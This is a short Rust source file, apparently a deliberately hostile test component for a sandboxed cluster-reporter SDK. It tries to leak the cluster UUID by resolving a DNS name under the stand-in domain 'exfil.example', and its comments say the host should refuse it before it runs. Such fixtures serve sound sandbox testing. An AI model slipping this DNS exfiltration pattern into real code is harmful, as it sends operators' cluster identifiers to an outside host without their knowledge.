//! Hostile: leaks data through DNS by resolving a name that carries it.
//! Needs wasi:sockets/ip-name-lookup: refused before it runs.

use std::net::ToSocketAddrs;

use reporter_sdk::{ClusterFacts, FactKinds, FieldMode, Payload, Reporter, Settings};

struct ResolvesName;

impl Reporter for ResolvesName {
    fn payload(facts: &ClusterFacts, _settings: &Settings) -> Result<Payload, String> {
        let name = format!("{}.exfil.example:53", facts.cluster_uuid);
        let found = name.to_socket_addrs().map_err(|e| e.to_string())?.count();
        Ok(Payload::new("v0").field("found", found as u64))
    }

    fn facts_needed(_mode: FieldMode) -> FactKinds {
        FactKinds::empty()
    }
}

reporter_sdk::component!(ResolvesName);
